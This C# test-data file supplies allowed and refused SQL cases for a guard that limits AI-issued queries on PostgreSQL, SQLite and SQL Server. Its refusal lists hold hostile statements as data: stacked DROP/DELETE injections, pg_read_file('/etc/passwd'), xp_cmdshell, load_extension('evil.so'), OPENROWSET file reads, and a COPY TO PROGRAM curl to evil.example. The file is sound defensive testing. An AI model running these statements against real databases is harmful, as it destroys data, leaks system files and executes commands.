using OrleansAssistant.CustomerDatabases.Guard;
using OrleansAssistant.Grains.Interfaces.Databases;

namespace OrleansAssistant.Grains.Tests.Databases;

/// <summary>The statements SqlGuardTests feeds the guard, per dialect: what must pass and what must be refused (with a piece of the reason).</summary>
public static class SqlGuardCases
{
    private const DatabaseProvider Pg = DatabaseProvider.PostgreSql;
    private const DatabaseProvider Lite = DatabaseProvider.Sqlite;

    private static readonly string[] PostgresAndSqliteReads =
    [
        "SELECT * FROM customers",
        "select id, name from customers where city = 'Oslo' order by name limit 10",
        "SELECT c.name, SUM(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING SUM(o.total) > 100",
        "SELECT region, total, RANK() OVER (PARTITION BY region ORDER BY total DESC) AS place FROM sales",
        "WITH recent AS (SELECT * FROM orders WHERE placed_at > '2024-01-01') SELECT COUNT(*) FROM recent",
        "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5) SELECT x FROM n",
        "VALUES (1, 'a'), (2, 'b')",
        "SELECT 'a; b' AS text",
        "SELECT 'DROP TABLE customers' AS text",
        "SELECT 'it''s -- not a comment' AS text",
        "SELECT COUNT(*) FROM orders WHERE note LIKE '%;%'",
        "SELECT 1 /* ; DELETE FROM t */",
        "SELECT 1 -- ; DELETE FROM t",
        "SELECT \"delete\", \"update\" FROM \"drop\"",
        "SELECT t.update, t.delete FROM t",
        "SELECT replace(name, 'a', 'b') FROM customers",
        "SELECT * FROM orders WHERE total > 1e3 AND id IN (SELECT order_id FROM lines)",
        "SELECT 1;",
        "SELECT 1;  ;  -- done\n",
    ];

    private static readonly string[] PostgresOnlyReads =
    [
        "SELECT pg_sleep(1)",
        "SELECT pg_catalog.pg_sleep(1)",
        "SELECT $$; DROP TABLE t; $$ AS body",
        "SELECT $tag$ it's $$ ; $tag$ AS body",
        "SELECT E'\\'; DROP TABLE t; --' AS text",
        "SELECT 1 /* outer /* inner ; */ still a comment ; */",
        "TABLE customers",
        "(SELECT 1) UNION (SELECT 2)",
        "SELECT substring(name FROM 1 FOR 3) FROM customers",
        "SELECT * FROM orders ORDER BY id FETCH FIRST 5 ROWS ONLY",
        "SELECT data->>'name', now()::date FROM docs WHERE data ? 'name'",
        "SELECT name FROM customers WHERE phone ~ '\\d{3}'",
    ];

    private static readonly string[] SqliteOnlyReads =
    [
        "SELECT [order id], `group` FROM [my table]",
        "SELECT strftime('%Y', placed_at), x'00ff' FROM orders WHERE id = :id",
        // SQLite ends a line comment only at a line feed, so all of this after -- is comment.
        "SELECT 1 -- note\r; DROP TABLE t",
    ];

    private static readonly (string Sql, string Reason)[] PostgresAndSqliteRefusals =
    [
        ("DROP TABLE customers", "DROP would change the database structure"),
        ("DELETE FROM customers", "this statement would change the database"),
        ("UPDATE customers SET name = 'x'", "this statement would change the database"),
        ("INSERT INTO customers (name) VALUES ('x')", "this statement would change the database"),
        ("ALTER TABLE customers ADD COLUMN x int", "ALTER would change the database structure"),
        ("CREATE TABLE x (id int)", "CREATE would change the database structure"),
        ("SELECT 1; SELECT 2", "Only one statement"),
        ("SELECT 1; DROP TABLE customers", "Only one statement"),
        ("SELECT 1 /* */; DROP TABLE t", "Only one statement"),
        ("SELECT 1 -- x\n; DELETE FROM t", "Only one statement"),
        ("SELECT 'a'; DROP TABLE t; --'", "Only one statement"),
        ("BEGIN; DELETE FROM t; COMMIT", "Only one statement"),
        ("SELECT * INTO copy FROM customers", "SELECT … INTO"),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "this statement would change the database"),
        ("WITH d AS (SELECT 1) DELETE FROM t", "this statement would change the database"),
        ("SELECT * FROM t FOR UPDATE", "Locking clauses"),
        ("SELECT 'never closed", "never closed"),
        ("SELECT \"never closed", "never closed"),
        ("SELECT 1 /* never closed", "never closed"),
        ("", "no SQL statement"),
        ("  ; -- nothing here\n ;", "no SQL statement"),
        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN can run the statement it explains"),
        ("VACUUM", "VACUUM is database maintenance"),
        ("ANALYZE", "ANALYZE is database maintenance"),
        ("REINDEX customers", "REINDEX is database maintenance"),
        ("SELECT comment FROM reviews", "write it in double quotes"),
    ];

    private static readonly (string Sql, string Reason)[] PostgresOnlyRefusals =
    [
        ("TRUNCATE customers", "TRUNCATE would remove every row"),
        ("GRANT SELECT ON customers TO public", "GRANT would change permissions"),
        ("REVOKE SELECT ON customers FROM public", "REVOKE would change permissions"),
        ("COMMENT ON TABLE customers IS 'x'", "COMMENT would change the database structure"),
        ("COPY customers TO PROGRAM 'curl https://evil.example'", "COPY reads and writes files and programs"),
        ("COPY (SELECT 1) TO '/tmp/out'", "COPY"),
        ("DO $$ BEGIN DELETE FROM t; END $$", "DO runs procedural code"),
        ("CALL cleanup()", "CALL runs procedures"),
        ("PREPARE p AS SELECT 1", "PREPARE"),
        ("EXECUTE p", "EXECUTE"),
        ("SET statement_timeout = 0", "SET changes settings"),
        ("RESET ALL", "RESET changes settings"),
        ("LISTEN alerts", "LISTEN"),
        ("NOTIFY alerts", "NOTIFY"),
        ("LOCK TABLE customers", "LOCK locks tables"),
        ("SELECT 1INTO t", "SELECT … INTO"),
        ("SELECT * FROM t FOR SHARE", "Locking clauses"),
        ("SELECT * FROM t FOR NO KEY UPDATE", "Locking clauses"),
        ("SELECT * FROM t FOR KEY SHARE", "Locking clauses"),
        ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u", "this statement would change the database"),
        ("WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "this statement would change the database"),
        ("SELECT $$ a $$; DROP TABLE t", "Only one statement"),
        ("SELECT $a$ $b$ ; $a$; DROP TABLE t", "Only one statement"),
        ("SELECT $$ never closed", "never closed"),
        ("SELECT $tag$ closed with another tag $other$", "never closed"),
        ("SELECT 1 /* /* nested */ ; DROP TABLE t", "never closed"),
        ("SELECT E'never closed\\'", "never closed"),
        ("SELECT '\\'; DROP TABLE t; --'", "could not be understood"),
        ("SELECT '\\''; DROP TABLE t; --'", "could not be understood"),
        ("SELECT 'C:\\'", "could not be understood"),
        ("SELECT 1 -- note\r; DROP TABLE t", "Only one statement"),
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
        ("SELECT PG_READ_BINARY_FILE('/etc/passwd')", "PG_READ_BINARY_FILE"),
        ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
        ("SELECT pg_stat_file('postgresql.conf')", "pg_stat_file"),
        ("SELECT lo_import('/etc/passwd')", "lo_import"),
        ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
        ("SELECT * FROM dblink('host=evil', 'DROP TABLE t') AS x(a int)", "dblink"),
        ("SELECT dblink_exec('host=evil', 'DROP TABLE t')", "dblink_exec"),
        ("SELECT pg_terminate_backend(123)", "pg_terminate_backend"),
        ("SELECT pg_cancel_backend(123)", "pg_cancel_backend"),
        ("SELECT pg_reload_conf()", "pg_reload_conf"),
        ("SELECT set_config('statement_timeout', '0', false)", "set_config"),
        ("SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
        ("SELECT pg_try_advisory_xact_lock(1)", "pg_try_advisory_xact_lock"),
        ("SELECT nextval('orders_id_seq')", "nextval"),
        ("SELECT setval('orders_id_seq', 1)", "setval"),
        ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", "query_to_xml"),
        ("SELECT * FROM t, LATERAL (SELECT set_config('a', 'b', false)) s", "set_config"),
        ("SELECT U&\"\\0070g_read_file\"('/etc/passwd')", "U&"),
    ];

    private static readonly (string Sql, string Reason)[] SqliteOnlyRefusals =
    [
        ("ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH opens another database file"),
        ("DETACH DATABASE x", "DETACH closes a database file"),
        ("PRAGMA writable_schema=1", "PRAGMA changes or inspects database settings"),
        ("VACUUM INTO '/tmp/copy.db'", "VACUUM"),
        ("REPLACE INTO customers VALUES (1, 'x')", "this statement would change the database"),
        ("SELECT load_extension('evil.so')", "load_extension"),
        ("SELECT readfile('/etc/passwd')", "readfile"),
        ("SELECT writefile('/tmp/x', 'data')", "writefile"),
        ("SELECT edit('text', 'vi')", "edit"),
        ("SELECT fts3_tokenizer('simple')", "fts3_tokenizer"),
        ("SELECT [load_extension]('evil.so')", "load_extension"),
        ("SELECT 1 /* /* */ ; DROP TABLE t", "Only one statement"),
        ("SELECT $a(') ; DROP TABLE t ; SELECT $b(')", "Only one statement"),
        ("SELECT [never closed", "never closed"),
        ("SELECT `never closed", "never closed"),
    ];

    private static readonly string[] SqlServerReads =
    [
        "SELECT TOP 10 * FROM customers ORDER BY name",
        "SELECT c.name, SUM(o.total) AS total FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name",
        "SELECT region, ROW_NUMBER() OVER (PARTITION BY region ORDER BY total DESC) AS place FROM sales",
        "WITH recent AS (SELECT * FROM orders WHERE placed_at > '2024-01-01') SELECT COUNT(*) FROM recent",
        "SELECT id, name FROM customers FOR JSON PATH",
        "SELECT id FROM customers FOR XML AUTO",
        "SELECT 'a; DROP TABLE t; --' AS text",
        "SELECT 1 /* ; DELETE FROM t */",
        "SELECT [delete], \"update\" FROM [drop]",
        "SELECT * FROM customers WITH (NOLOCK)",
        "SELECT value FROM OPENJSON(N'[1,2]')",
        "SELECT 1;",
    ];

    private static readonly (string Sql, string Reason)[] SqlServerRefusals =
    [
        ("EXEC xp_cmdshell 'dir'", "EXEC runs procedures"),
        ("EXECUTE('SELECT 1')", "EXECUTE runs procedures"),
        ("WAITFOR DELAY '00:01'", "WAITFOR only waits"),
        ("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')", "OPENROWSET"),
        ("SELECT * FROM OPENROWSET(BULK 'C:\\secret.txt', SINGLE_CLOB) AS f", "OPENROWSET"),
        ("SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t", "OPENDATASOURCE"),
        ("SELECT * FROM OPENQUERY(evil, 'SELECT 1')", "OPENQUERY"),
        ("SELECT * FROM evil.db.dbo.t", "linked servers"),
        ("SELEC x", "procedure named SELEC"),
        ("SELECT 1; SELECT 2", "Only one statement"),
        ("SELECT 1 SELECT 2", "Only one statement"),
        ("SELECT 1\nGO\nDROP TABLE t", "GO only separates batches"),
        ("SELECT 1\nGO\n", "GO only separates batches"),
        ("SELECT 1 /* */; DROP TABLE t", "Only one statement"),
        ("SELECT * INTO t2 FROM t", "SELECT … INTO"),
        ("SELECT * FROM t WITH (UPDLOCK)", "hints"),
        ("SELECT * FROM t WITH (XLOCK, ROWLOCK)", "hints"),
        ("SELECT * FROM t WITH (TABLOCKX)", "hints"),
        ("DROP TABLE t", "DROP would change the database structure"),
        ("DELETE FROM t", "this statement would change the database"),
        ("UPDATE t SET a = 1", "this statement would change the database"),
        ("INSERT INTO t VALUES (1)", "this statement would change the database"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;", "this statement would change the database"),
        ("WITH d AS (SELECT 1 AS a) DELETE FROM t", "this statement would change the database"),
        ("TRUNCATE TABLE t", "TRUNCATE would remove every row"),
        ("ALTER TABLE t ADD c int", "ALTER would change the database structure"),
        ("CREATE TABLE t (id int)", "CREATE would change the database structure"),
        ("GRANT SELECT ON t TO public", "GRANT would change permissions"),
        ("BEGIN TRAN", "BEGIN controls transactions"),
        ("USE master", "USE switches databases"),
        ("DECLARE @x int", "DECLARE"),
        ("SHUTDOWN", "SHUTDOWN stops the server"),
        ("IF 1 = 1 SELECT 1", "write the statement as a SELECT"),
        ("SELECT * FROM t WITH (HOLDLOCK)", "hints"),
        ("SELECT * FROM t FOR UPDATE", "Locking clauses"),
        ("SELECT NEXT VALUE FOR seq", "NEXT VALUE FOR"),
        ("SELECT * FROM sys.fn_xe_file_target_read_file('C:\\*.xel', NULL, NULL, NULL)", "fn_xe_file_target_read_file"),
        ("SELECT 'never closed", "could not be understood"),
        ("SELECT 1 /* never closed", "could not be understood"),
        ("", "no SQL statement"),
    ];

    private static readonly (string Sql, StatementKind Kind)[] PostgresAndSqliteWrites =
    [
        ("INSERT INTO t (a) VALUES (1)", StatementKind.Insert),
        ("INSERT INTO t (a) VALUES (1) RETURNING id", StatementKind.Insert),
        ("INSERT INTO t (a) SELECT a FROM s WHERE s.x > 1", StatementKind.Insert),
        ("INSERT INTO t (id, a) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET a = excluded.a", StatementKind.Insert),
        ("INSERT INTO t (id, a) VALUES (1, 'x') ON CONFLICT DO NOTHING", StatementKind.Insert),
        ("WITH src AS (SELECT 1 AS a) INSERT INTO t (a) SELECT a FROM src", StatementKind.Insert),
        ("UPDATE t SET a = 1 WHERE id = 2", StatementKind.Update),
        ("UPDATE t SET a = 1 RETURNING *", StatementKind.Update),
        ("UPDATE t SET note = 'DELETE; DROP TABLE t' WHERE id = 2;", StatementKind.Update),
        ("SELECT 1", StatementKind.Query),
    ];

    private static readonly (string Sql, string Reason)[] PostgresAndSqliteWriteRefusals =
    [
        ("DELETE FROM t", "DELETE is not allowed"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE is not allowed"),
        ("DROP TABLE t", "DROP would change the database structure"),
        ("CREATE TABLE t (id int)", "CREATE would change the database structure"),
        ("TRUNCATE t", "TRUNCATE would remove every row"),
        ("INSERT INTO t VALUES (1); DELETE FROM t", "Only one statement"),
        ("INSERT INTO t VALUES (1); INSERT INTO t VALUES (2)", "Only one statement"),
        ("UPDATE t SET a = 1; UPDATE t SET b = 2", "Only one statement"),
        ("WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d", "DELETE is not allowed"),
        ("WITH u AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM u", "never inside WITH"),
        ("INSERT INTO log SELECT * FROM (WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i) x", "never inside WITH"),
        ("INSERT INTO t SELECT * INTO x FROM s", "SELECT … INTO"),
        ("UPDATE sqlite_schema SET sql = 'x'", "System tables"),
        ("UPDATE pg_catalog.pg_authid SET rolsuper = true", "System tables"),
        ("UPDATE t SET a = 1; DROP TABLE t", "Only one statement"),
    ];

    private static readonly (string Sql, string Reason)[] SqliteOnlyWriteRefusals =
    [
        ("INSERT OR REPLACE INTO t VALUES (1)", "INSERT OR REPLACE is not allowed"),
        ("UPDATE OR REPLACE t SET id = 1", "UPDATE OR REPLACE is not allowed"),
        ("REPLACE INTO t VALUES (1)", "REPLACE is not allowed"),
        ("INSERT INTO main.sqlite_dbpage VALUES (1, x'00')", "System tables"),
        ("UPDATE t SET a = load_extension('evil.so')", "load_extension"),
    ];

    private static readonly (string Sql, StatementKind Kind)[] SqlServerWrites =
    [
        ("INSERT INTO t (a) VALUES (1)", StatementKind.Insert),
        ("INSERT INTO t (a) SELECT a FROM s WHERE s.x > 1", StatementKind.Insert),
        ("UPDATE t SET a = 1 WHERE id = 2", StatementKind.Update),
        ("UPDATE t SET a = 1 OUTPUT inserted.id WHERE id = 2", StatementKind.Update),
        ("WITH c AS (SELECT * FROM t WHERE a = 1) UPDATE c SET a = 2", StatementKind.Update),
        ("SELECT 1", StatementKind.Query),
    ];

    private static readonly (string Sql, string Reason)[] SqlServerWriteRefusals =
    [
        ("DELETE FROM t", "DELETE is not allowed"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;", "MERGE is not allowed"),
        ("DROP TABLE t", "DROP would change the database structure"),
        ("INSERT INTO t VALUES (1); DELETE FROM t", "Only one statement"),
        ("INSERT INTO t VALUES (1) INSERT INTO t VALUES (2)", "Only one statement"),
        ("INSERT INTO t EXEC p", "EXEC runs procedures"),
        ("UPDATE t SET a = 1 OUTPUT inserted.* INTO audit", "OUTPUT … INTO"),
        ("INSERT INTO t SELECT * FROM (DELETE FROM x OUTPUT deleted.*) AS d", "never inside WITH"),
        ("UPDATE t WITH (TABLOCKX) SET a = 1", "hints"),
        ("INSERT INTO evil.db.dbo.t VALUES (1)", "linked servers"),
        ("INSERT INTO t SELECT * FROM OPENROWSET(BULK 'C:\\secret.txt', SINGLE_CLOB) AS f", "OPENROWSET"),
        ("SELECT * INTO t2 FROM t", "SELECT … INTO"),
    ];

    public static TheoryData<DatabaseProvider, string> PostgreSqlAndSqliteAllowedReads =>
        Data([.. Both(PostgresAndSqliteReads), .. PostgresOnlyReads.Select(sql => (Pg, sql)), .. SqliteOnlyReads.Select(sql => (Lite, sql))]);

    public static TheoryData<DatabaseProvider, string, string> PostgreSqlAndSqliteRefusedReads =>
        Data([.. Both(PostgresAndSqliteRefusals), .. PostgresOnlyRefusals.Select(c => (Pg, c.Sql, c.Reason)),
            .. SqliteOnlyRefusals.Select(c => (Lite, c.Sql, c.Reason))]);

    public static TheoryData<DatabaseProvider, string, StatementKind> PostgreSqlAndSqliteAllowedWrites =>
        Data([.. Both(PostgresAndSqliteWrites), (Lite, "INSERT OR IGNORE INTO t (a) VALUES (1)", StatementKind.Insert),
            (Pg, "UPDATE t SET a = s.a FROM s WHERE s.id = t.id", StatementKind.Update)]);

    public static TheoryData<DatabaseProvider, string, string> PostgreSqlAndSqliteRefusedWrites =>
        Data([.. Both(PostgresAndSqliteWriteRefusals), .. SqliteOnlyWriteRefusals.Select(c => (Lite, c.Sql, c.Reason)),
            (Pg, "UPDATE t SET a = pg_read_file('/etc/passwd')", "pg_read_file")]);

    public static TheoryData<string> SqlServerAllowedReads => [.. SqlServerReads];

    public static TheoryData<string, string> SqlServerRefusedReads => Data(SqlServerRefusals);

    public static TheoryData<string, StatementKind> SqlServerAllowedWrites => Data(SqlServerWrites);

    public static TheoryData<string, string> SqlServerRefusedWrites => Data(SqlServerWriteRefusals);

    private static IEnumerable<(DatabaseProvider, string)> Both(IEnumerable<string> cases) =>
        cases.SelectMany(sql => new[] { (Pg, sql), (Lite, sql) });

    private static IEnumerable<(DatabaseProvider, string, T)> Both<T>(IEnumerable<(string Sql, T Expected)> cases) =>
        cases.SelectMany(c => new[] { (Pg, c.Sql, c.Expected), (Lite, c.Sql, c.Expected) });

    private static TheoryData<T1, T2> Data<T1, T2>(IEnumerable<(T1, T2)> rows)
    {
        var data = new TheoryData<T1, T2>();
        foreach (var (a, b) in rows) data.Add(a, b);
        return data;
    }

    private static TheoryData<T1, T2, T3> Data<T1, T2, T3>(IEnumerable<(T1, T2, T3)> rows)
    {
        var data = new TheoryData<T1, T2, T3>();
        foreach (var (a, b, c) in rows) data.Add(a, b, c);
        return data;
    }
}
